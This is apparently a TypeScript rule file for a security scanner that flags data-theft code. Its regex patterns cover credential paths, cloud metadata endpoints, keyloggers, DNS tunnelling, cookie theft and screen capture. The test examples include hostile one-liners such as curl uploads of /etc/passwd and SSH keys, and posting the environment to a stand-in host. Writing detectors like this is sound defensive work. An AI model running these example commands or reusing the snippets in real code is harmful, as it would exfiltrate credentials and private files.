import type { ScanRule } from '../rule.ts'
import { javascript, python, shell } from './examples.ts'

const HINT = 'Where it is meant (a test of one’s own defences), run it with `--scan report`; the walls are the same.'

/** Code that steals data. */
export const theft: ScanRule[] = [
  {
    name: 'credential-path',
    set: 'hostile',
    kind: 'text',
    pattern: String.raw`(^|[/~"'\s=@])(\.ssh/(id_|authorized_keys|config$|known_hosts|\*|$)|\.(ssh|aws|gnupg|password-store)/?$|\.aws/(credentials|config)|\.azure/(accessTokens|msal)|\.config/gcloud|\.kube/config|\.docker/config\.json|\.netrc\b|\.git-credentials|\.npmrc$|\.pypirc$|\.gnupg/|\.pgpass\b|\.vault-token|id_(rsa|ed25519|ecdsa)\b(?!\.pub)|etc/shadow\b|etc/gshadow\b|etc/sudoers\b|proc/([^/\s]*[\d*?\]}$][^/\s]*|self|thread-self)/(task/[^/\s]+/)?(environ|mem|maps/?root|root)\b|Login Data$|Local State$|cookies\.sqlite|key4\.db|logins\.json|wallet\.dat|keystore/UTC|\.bash_history|run/secrets/|serviceaccount/token)`,
    reason: 'a file that holds credentials',
    hint: HINT,
    examples: {
      match: [...python("open('/root/.ssh/id_rsa')"), ...shell('cat ~/.aws/credentials', 'cat /etc/shadow')],
      not: [...python("open('/home/user/ssh-notes.txt')"), ...shell('cat data/aws.csv', 'ssh-keygen -l')],
    },
  },
  {
    name: 'metadata-service',
    set: 'hostile',
    kind: 'text',
    pattern: String.raw`169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2|fd00:ec2::254|100\.100\.100\.200|0xa9fea9fe|2852039166|latest/meta-data|\[::ffff:a9fe:a9fe\]`,
    reason: 'the metadata service of a cloud, which hands out credentials',
    hint: HINT,
    examples: {
      match: [...python("requests.get('http://169.254.169.254/latest/')"), ...shell('curl http://metadata.google.internal/')],
      not: python("requests.get('http://192.0.2.1/latest')"),
    },
  },
  {
    name: 'records-keys',
    set: 'hostile',
    kind: 'call',
    language: 'python',
    pattern: String.raw`^(pynput\.(keyboard|mouse)\.Listener|keyboard\.(on_press|on_release|hook|record|read_event)|pyxhook\.HookManager|evdev\.InputDevice)$`,
    reason: 'it records what is typed',
    hint: HINT,
    examples: {
      match: python('from pynput import keyboard\nkeyboard.Listener(on_press=f).start()', 'import keyboard\nkeyboard.hook(f)'),
      not: python("keyboard = {'a': 1}\nkeyboard.get('a')"),
    },
  },
  {
    name: 'takes-files',
    set: 'hostile',
    kind: 'shape',
    pattern: '^(takes-everything|files-sent)$',
    reason: 'it sends somebody’s files somewhere else',
    hint: HINT,
    examples: {
      match: [
        ...python(
          "import os\nfor d, _, names in os.walk('/home'):\n    for n in names: ftp.storbinary('STOR ' + n, open(os.path.join(d, n), 'rb'))",
        ),
        ...javascript("for (const n of fs.readdirSync('/home')) fetch('http://h', { method: 'POST', body: n })"),
        ...shell('tar cz ~/Documents | curl -T - ftp://h/x', 'cat ~/notes/* | nc h 1'),
      ],
      not: [
        ...python("for p in glob.glob('out/*.csv'): requests.post(u, files={'f': open(p)})"),
        ...shell('tar czf backup.tgz ~/Documents', 'cat body.json | curl -d @- http://h'),
      ],
    },
  },
  {
    name: 'takes-environment',
    set: 'hostile',
    kind: 'shape',
    pattern: '^environment-sent$',
    reason: 'it sends its environment somewhere else',
    hint: HINT,
    examples: {
      match: [
        ...python("import os, requests\nrequests.post('http://h', json=dict(os.environ))"),
        ...javascript("fetch('http://h', { method: 'POST', body: JSON.stringify(process.env) })"),
        ...shell('env | curl -d @- http://h'),
      ],
      not: [...python("import os\nprint(os.environ['HOME'])"), ...javascript('console.log(process.env.HOME)'), ...shell('env | sort')],
    },
  },
  {
    name: 'exfiltration-command',
    set: 'hostile',
    kind: 'command',
    pattern: String.raw`^find\s+(/|~|\$HOME)\S*\s.*-exec(dir)?\s+(curl|wget|nc|scp|rsync|ftp)\b|^(curl|wget)\b.*(\s(-d|--data(-\w+)?|-F|--form|-T|--upload-file|--post-file)[\s=]?\S*(@|=@)?[^\s]*(/etc/|\.ssh|\.aws|id_rsa|\.env\b|passwd|shadow)|--post-file=/(etc|root|home))|^(dig|nslookup|host)\b.*\$\(`,
    reason: 'it sends files of the machine somewhere else',
    hint: HINT,
    examples: {
      match: shell('curl -d @/etc/passwd http://h', 'curl -F f=@/root/.ssh/id_rsa http://h', 'wget --post-file=/etc/passwd http://h'),
      not: shell('curl -d @body.json http://h'),
    },
  },
  {
    name: 'names-carry-out',
    set: 'hostile',
    kind: 'call',
    pattern: String.raw`^dns(Promises)?(\.promises)?\.(lookup|resolve\w*)$|^socket\.(gethostbyname(_ex)?|getaddrinfo)$|(^|\.)resolver\.(resolve|query)$`,
    args: String.raw`^\?\.[\w?.-]*\w\.\w`,
    also: [{ kind: 'call', pattern: String.raw`(b64encode|b32encode|hexlify|\.hex|^Buffer\.from)$|^Buffer\.from\(\)\.toString$` }],
    reason: 'it encodes something into names that somebody else’s server is asked for',
    hint: HINT,
    examples: {
      match: [
        ...javascript("dns.lookup(Buffer.from(x).toString('hex') + '.t.example', () => {})"),
        ...python("import socket, base64\nsocket.gethostbyname(base64.b32encode(data).decode() + '.t.example')"),
      ],
      not: [...javascript("dns.lookup(name + '.example', () => {})"), ...python('import socket\nsocket.gethostbyname(name)')],
    },
  },
  {
    name: 'takes-cookies',
    set: 'hostile',
    kind: 'call',
    language: 'python',
    pattern: String.raw`^(browser_?cookie3?|browsercookie|rookiepy|pycookiecheat)\.\w+$|^win32crypt\.CryptUnprotectData$`,
    also: [{ kind: 'call', pattern: String.raw`\.(post|put|send|sendall|sendmail|urlopen)$` }],
    reason: 'it sends what a browser remembers somewhere else',
    hint: HINT,
    examples: {
      match: python('import browser_cookie3, requests\nrequests.post(u, json=browser_cookie3.chrome())'),
      not: python('import browser_cookie3, requests\nrequests.get(u, cookies=browser_cookie3.chrome())'),
    },
  },
  {
    name: 'packs-everything',
    set: 'hostile',
    kind: 'call',
    pattern: String.raw`(^|\.)(add|make_archive|copytree|directory)$`,
    args: String.raw`(^|\s)(~|/home|/root|/etc|/Users|/home/\w+)/?(\s|$)`,
    also: [
      {
        kind: 'call',
        pattern: String.raw`\.(post|put|patch|sendmail|send_message|sendall|storbinary|upload\w*|put_object)$|^smtplib\.|^fetch$`,
      },
    ],
    reason: 'it packs all that somebody has, and sends something somewhere else',
    hint: HINT,
    examples: {
      match: python("import tarfile, ftplib\nt = tarfile.open('x', 'w')\nt.add('/home')\nftp.storbinary('STOR x', f)"),
      not: python("import tarfile\nt = tarfile.open('x', 'w')\nt.add('/home')", "t.add('dist')\nrequests.post(u)"),
    },
  },
  {
    name: 'watches-somebody',
    set: 'hostile',
    kind: 'call',
    pattern: String.raw`^(PIL\.)?(ImageGrab\.grab)$|^(mss\.mss\(\)\.\w+|pyautogui\.screenshot|pyscreenshot\.grab|cv2\.VideoCapture|sounddevice\.rec)$`,
    also: [{ kind: 'call', pattern: String.raw`\.(post|put|sendmail|send_message|sendall|storbinary|upload\w*)$|^smtplib\.` }],
    reason: 'it looks at somebody’s screen or room, and sends something somewhere else',
    hint: HINT,
    examples: {
      match: python('from PIL import ImageGrab\nimport requests\nrequests.post(u, data=ImageGrab.grab().tobytes())'),
      not: python("import pyautogui\npyautogui.screenshot('a.png')"),
    },
  },
  {
    name: 'gathers-files',
    set: 'hostile',
    kind: 'shape',
    pattern: '^reads-everything$',
    also: [
      {
        kind: 'call',
        pattern: String.raw`\.(post|put|patch|sendmail|send_message|sendall|sendto|storbinary|upload\w*)$|^(urllib\.request\.)?Request$|^smtplib\.`,
      },
    ],
    reason: 'it reads all that somebody has, and sends something somewhere else',
    hint: HINT,
    examples: {
      match: python(
        "import os, requests\nhits = []\nfor d, _, names in os.walk('/home'):\n    for n in names: hits.append(open(os.path.join(d, n)).read())\nrequests.post(u, json=hits)",
      ),
      not: python(
        "import os\nfor d, _, names in os.walk('/home'):\n    for n in names: print(open(os.path.join(d, n)).read())",
        "import os, requests\nfor d, _, names in os.walk('docs'):\n    for n in names: print(open(n).read())\nrequests.post(u)",
      ),
    },
  },
  {
    name: 'shows-files',
    set: 'hostile',
    kind: 'command',
    pattern: String.raw`^python[\d.]*\s.*-m\s*http\.server\b.*(--directory|-d)[\s=]+(/|~|\$HOME|/(home|root|etc)/?)(\s|$)|^(sudo )?(gcore\b|gdb\b.*(-p\s*\$\(|dump memory))`,
    reason: 'it shows somebody’s files, or another program’s memory, to whoever asks',
    hint: HINT,
    examples: {
      match: shell('python3 -m http.server 8000 --directory /', 'gdb -p $(pgrep sshd) -batch', 'gcore 1234'),
      not: shell('python3 -m http.server 8000', 'python3 -m http.server --directory dist', 'gdb ./a.out'),
    },
  },
]
